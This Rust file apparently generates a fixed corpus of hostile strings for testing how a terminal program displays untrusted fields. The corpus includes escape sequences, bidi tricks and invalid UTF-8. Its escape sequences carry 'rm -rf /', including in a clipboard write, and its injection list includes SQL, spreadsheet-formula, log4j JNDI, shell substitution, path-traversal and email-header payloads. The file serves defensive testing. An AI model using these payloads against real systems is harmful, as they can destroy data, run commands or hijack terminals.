//! Hostile strings, the same ones on every machine: what attackers and accidents put into fields
//! that a terminal shows.

/// How many there are at least.
pub const AT_LEAST: usize = 5_000;

/// A string that does harm where it is shown as it is.
#[derive(Clone, Debug)]
pub struct Payload {
    /// What kind of attack it is.
    pub kind: &'static str,
    /// The string; it holds its mark.
    pub text: String,
    /// A harmless word that stands in no other string: where it is seen, the string was shown.
    pub mark: String,
}

/// All strings.
pub fn all() -> Vec<Payload> {
    let mut payloads = Vec::new();
    for (kind, attack) in attacks() {
        for place in PLACES {
            let mark = format!("Kq{:04x}", payloads.len());
            let text = place.replace("MARK", &mark).replace("ATTACK", &attack);
            payloads.push(Payload { kind, text, mark });
        }
    }
    payloads
}

/// The bytes that have no text: what is left of them when they are read as UTF-8 is among
/// [`all`], and arguments and file names may hold them as they are.
pub const NOT_UTF8: [&[u8]; 9] = [
    b"\x9b31m",
    b"\x9d0;x\x07",
    b"\x90q\x9c",
    b"\xc0\x9b[31m",
    b"\xe0\x80\x9b",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80",
    b"a\xff\xfe\xc3",
    b"\x1b\xff[2J\xc2",
];

/// Where an attack stands: at the edges of the text, before and behind wide characters, twice.
const PLACES: [&str; 6] =
    ["MARKATTACK", "ATTACKMARK", "MARK ATTACK ATTACK", "홍ATTACK길MARK", "MARK홍ATTACK", "MARK=ATTACKend"];

fn attacks() -> Vec<(&'static str, String)> {
    let mut attacks = Vec::new();
    let mut chars = |kind, codes: &mut dyn Iterator<Item = u32>| {
        attacks.extend(codes.filter_map(char::from_u32).map(|c| (kind, c.to_string())));
    };
    chars("control", &mut (0..0x20).chain(0x7f..0xa0));
    chars("bidi", &mut [0x61c, 0x200e, 0x200f].into_iter().chain(0x202a..=0x202e).chain(0x2066..=0x2069));
    chars("zero-width", &mut ZERO_WIDTH.into_iter());
    chars("separator", &mut [0xa0, 0x1680, 0x2000, 0x2028, 0x2029, 0x202f, 0x3000].into_iter());
    chars("tag", &mut (0xe_0000..0xe_0080));
    chars("variation", &mut (0xfe00..=0xfe0f).chain(0xe_0100..=0xe_01ef));
    chars("private", &mut [0xe000, 0xf8ff, 0xf_0000, 0xf_fffd, 0x10_0000, 0x10_fffd].into_iter());
    chars(
        "noncharacter",
        &mut (0xfdd0..0xfdf0).chain((0..17).flat_map(|plane| [plane << 16 | 0xfffe, plane << 16 | 0xffff])),
    );
    chars("unassigned", &mut [0x378, 0x530, 0x2fe0, 0xe_0fff, 0x3_fffd].into_iter());
    chars("jamo", &mut (0x1100..0x1104).chain(0x1160..0x1170).chain(0x11a8..0x11b8).chain(0xd7b0..0xd7b4));
    attacks.extend(sequences());
    attacks.extend(NOT_UTF8.iter().map(|bytes| ("not UTF-8", String::from_utf8_lossy(bytes).into_owned())));
    attacks.extend(shapes());
    attacks
}

/// Characters that take no room and are seen by nobody.
const ZERO_WIDTH: [u32; 28] = [
    0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180c, 0x180d, 0x180e, 0x180f, 0x200b, 0x200c, 0x200d,
    0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206a, 0x206f, 0x2800, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0x1_d173,
];

/// Every way to begin and to end a control sequence, around what terminals obey.
fn sequences() -> Vec<(&'static str, String)> {
    let csi = [
        "31;5m",
        "2J",
        "H",
        "6n",
        "c",
        ">c",
        "?1049l",
        "?25l",
        "?2004l",
        "?1003h",
        "20t",
        "21t",
        "22;0t",
        "8;1;1t",
        "!p",
        "5i",
        "4h",
        "r",
        "?2026h",
        "1;1H\u{8}\u{8}",
        "3J",
        ">4;2m",
        "18t",
        "0$}",
        "?6h",
        "9999999999999;1m",
    ];
    let osc = [
        "0;rm -rf /",
        "2;title",
        "4;1;?",
        "7;file:///etc",
        "8;;https://evil.example",
        "9;notice",
        "10;?",
        "52;c;cm0gLXJmIC8K",
        "52;c;?",
        "50;?",
        "104",
        "133;A",
        "777;notify;a;b",
        "1337;File=inline=1:AAAA",
        "1337;ReportCellSize",
    ];
    let dcs = ["$q q", "+q544e", "q#0;2;0;0;0#0~~", "=1s", "1$r0m", "tmux;\u{1b}\u{1b}]52;c;AAAA\u{7}"];
    let strings = ["hello", "\u{1b}[31m", "Gi=1,a=q;AAAA"];
    let mut all = Vec::new();
    for body in csi {
        all.extend(
            ["\u{1b}[", "\u{9b}", "\u{1b}\u{200b}[", "\u{1b}\u{301}["].map(|begin| ("CSI", format!("{begin}{body}"))),
        );
    }
    let mut wrapped = |kind, begins: [&str; 2], bodies: &[&str]| {
        for body in bodies {
            for (begin, end) in
                begins.iter().flat_map(|begin| ["\u{7}", "\u{1b}\\", "\u{9c}", ""].map(|end| (begin, end)))
            {
                all.push((kind, format!("{begin}{body}{end}")));
            }
        }
    };
    wrapped("OSC", ["\u{1b}]", "\u{9d}"], &osc);
    wrapped("DCS", ["\u{1b}P", "\u{90}"], &dcs);
    wrapped("SOS", ["\u{1b}X", "\u{98}"], &strings);
    wrapped("PM", ["\u{1b}^", "\u{9e}"], &strings);
    wrapped("APC", ["\u{1b}_", "\u{9f}"], &strings);
    all.extend(
        ["c", "7", "8", "D", "M", "N", "O", "#8", "(0", "=", ">", "%G", "Z", " F"]
            .map(|esc| ("ESC", format!("\u{1b}{esc}"))),
    );
    // Halves that only together are a sequence, for two columns beside each other.
    all.extend(
        ["\u{1b}", "[31m", "]52;c;AAAA", "\u{1b}[", "31m\u{1b}]", "0;t\u{7}"].map(|half| ("split", half.to_owned())),
    );
    all
}

/// Long, wide, tall and twisted text, and what other programs would run.
fn shapes() -> Vec<(&'static str, String)> {
    let mut all = vec![
        ("long", "x".repeat(100_000)),
        ("long", "홍".repeat(10_000)),
        ("long", "\u{202e}".repeat(10_000)),
        ("zalgo", format!("Z{}", "\u{336}".repeat(500))),
        ("zalgo", format!("o{}", "\u{30d}\u{336}\u{489}\u{20dd}".repeat(125))),
        ("wide", format!("{}x", "\u{e01}\u{e47}".repeat(250))),
        ("wide", "\u{fdfd}\u{12031}\u{2e3b}".to_owned()),
        ("wide", "👨\u{200d}👩\u{200d}👧\u{200d}👦🇰🇷👍🏽".to_owned()),
        ("wide", "각\u{301}힣\u{11a8}e\u{301}\u{328}".to_owned()),
        ("wide", "🇦".repeat(81)),
        ("rtl", "محمد الفارسي".to_owned()),
        ("rtl", "\u{5d0}\u{202e}gnp.exe\u{202c}".to_owned()),
        ("rtl", "\u{2067}\u{2066}שלום\u{2069}".to_owned()),
    ];
    let texts = [
        "\r\n",
        "\n\nBcc: all@evil.example",
        "\tTab\t",
        "\"quo\"\"ted\"",
        "'; DROP TABLE customers;--",
        "a,b;c|d",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "{{7*7}}",
        "{0}{}{name}",
        "%s%n%x%p",
        "${jndi:ldap://x}",
        "$(id)`id`",
        "\\u001b[31m",
        "\\x1b]0;t\\x07",
        "\\",
        "<script>alert(1)</script>",
        "]]>",
        "\u{feff}",
        "null",
        "\\0",
        "[mail]\nurl=\"x\"",
        "'''",
        "\"\"\"",
        "#comment",
        "--help",
        "-rf",
        "../../etc/passwd",
        "%1b%5b31m",
        "&#27;[31m",
        "^[[31m",
        "\u{2400}\u{241b}",
        "\u{fffd}",
        "ﬀ",
        "ſſ",
        "İı",
        "\u{212a}",
        "\u{390}\u{1f80}",
    ];
    all.extend(texts.map(|text| ("text", text.to_owned())));
    all
}
